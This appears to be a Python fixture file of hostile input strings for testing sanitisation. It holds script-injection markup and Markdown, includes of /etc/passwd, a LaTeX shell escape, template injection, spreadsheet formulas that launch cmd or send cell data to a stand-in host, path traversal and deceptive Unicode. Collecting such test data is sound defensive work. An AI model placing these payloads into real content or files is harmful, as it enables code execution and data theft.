"""Values that someone might put where a text is expected, to act on a page, a spreadsheet, a terminal or the disk.

Each that would make an element or an attribute on a page carries the word `hostile` in it, which is looked for there.
"""

from __future__ import annotations

MARKUP = {
    "script": "<script>hostile()</script>",
    "script in capitals, broken over lines": "<ScRiPt\n>hostile()</sCrIpT\n>",
    "script that ends another": "</script><script>hostile()</script>",
    "comment and script": "<!--<script>hostile()",
    "picture with a handler": "<img src=x onerror=hostile()>",
    "handler after a slash": '<img/src="x"/onerror=hostile()>',
    "handler in capitals": '<body ONLOAD="hostile()">',
    "attribute that is left": '" onmouseover="hostile()" x="',
    "frame": '<iframe src="https://hostile.example/"></iframe>',
    "object": '<object data="hostile.swf"></object>',
    "base": '<base href="https://hostile.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
    "form": '<form action="https://hostile.example/"><input name="hostile"></form>',
    "style": "<style>@import 'https://hostile.example/a.css'</style>",
    "drawing": '<svg onload="hostile()"><animate attributeName="href" to="javascript:hostile()"/></svg>',
    "formula": '<math><maction actiontype="statusline" xlink:href="javascript:hostile()">x</maction></math>',
    "entity": "&lt;script&gt;hostile()&lt;/script&gt;<b class=hostile>",
}
MARKDOWN = {
    "link that runs": "[hostile](javascript:hostile())",
    "link with entities": "[x](java&#115;cript:hostile())",
    "address in brackets": "<javascript:hostile()>",
    "picture": "![hostile](https://hostile.example/pixel.png)",
    "reference": "[hostile]: javascript:hostile()",
    "raw directive": "```{raw} html\n<b class=hostile>x</b>\n```",
    "raw directive with colons": ":::{raw} html\n<b class=hostile>x</b>\n:::",
    "include": "```{include} /etc/hostname\n```",
    "include of a path": "\n\n:::{literalinclude} ../../../../etc/passwd\n:::",
    "role": "{download}`/etc/hostname`",
    "raw role": '{raw-html}`<b class="hostile">`',
    "attributes": "[x]{.hostile onclick='hostile()'}",
    "substitution": "{{ hostile }}",
    "block after a blank line": "x\n\n<b class=hostile>x</b>",
    "heading": "# hostile",
    "row of a table": "| a | hostile |\n| - | - |",
    "end of a box": "\n:::\n<b class=hostile>x</b>",
    "end of code": "`` ` ``` <b class=hostile>x</b>",
    "formula": "$\\href{javascript:hostile()}{x}$",
}
LATEX = {"include": r"\input{/etc/passwd}", "write": r"\immediate\write18{touch hostile}"}
TEMPLATE = {"Jinja": "{{ config.__class__ }}{% raw %}", "format": "{0.__class__}%s"}
FORMULAS = {
    "function": "=1+1",
    "programme": "=cmd|'/C calc'!A0",
    "address": '=HYPERLINK("https://hostile.example/?x="&A1,"see")',
    "plus": "+1+1",
    "minus": "-1+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)",
    "wide": "\uff1d1+1",
}
UNSEEN = {
    "tab before a formula": "\t=1+1",
    "return before a formula": "\r=1+1",
    "escape": "\x1b]0;hostile\x07\x1b[2J",
    "zero": "a\0b",
    "turned": "user\u202egnp.exe",
    "isolated": "a\u2066b\u2069",
    "nothing": "zero\u200bwidth",
    "mark": "\ufeffa",
}
PATHS = {
    "up": "../../hostile",
    "up on Windows": "..\\..\\hostile",
    "absolute": "/srv/hostile",
    "drive": "C:\\hostile",
    "zero": "hostile\0.svg",
    "address": "file:///etc/passwd",
    "hidden": ".hostile",
    "share": "\\\\hostile\\share",
    "empty": "",
}
ADDRESSES = {
    "script": "javascript:hostile()",
    "script in capitals": "JaVaScRiPt:hostile()",
    "data": "data:text/html,<script>hostile()</script>",
    "file": "file:///etc/passwd",
    "other": "vbscript:hostile",
    "quote": 'https://example.org/" onclick="hostile()',
    "markup": "https://example.org/<script>hostile()</script>",
}
TEXTS = {
    f"{kind}: {name}": value
    for kind, values in (("markup", MARKUP), ("Markdown", MARKDOWN), ("LaTeX", LATEX), ("template", TEMPLATE))
    for name, value in values.items()
}
"""Texts that a table may hold, because somebody may have said them; they are shown and not obeyed."""
